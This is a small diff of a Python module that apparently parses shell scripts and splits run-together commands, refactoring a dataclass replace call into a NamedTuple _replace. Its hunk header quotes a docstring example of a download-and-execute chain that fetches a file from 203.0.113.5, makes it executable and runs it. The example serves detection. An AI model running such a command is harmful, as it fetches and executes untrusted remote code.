@@ -5,7 +5,6 @@ cd /tmp wget http://203.0.113.5/x chmod 777 x ./x        is one call, of `cd`, w
 
 from __future__ import annotations
 
-from dataclasses import replace
 from itertools import pairwise
 from typing import Final
 
@@ -38,7 +37,7 @@ def unglued(script: Script) -> Script:
     for call in script.calls:
         if len(call.argv) > 3 and call.name in _FIRST and not call.remote and (_holds_fetch(call) or _goes_on(call)):
             more.extend(_parts(call))
-    return replace(script, calls=script.calls + tuple(more[:_MOST])) if more else script
+    return script._replace(calls=script.calls + tuple(more[:_MOST])) if more else script
 
 
 def _holds_fetch(call: Call) -> bool:
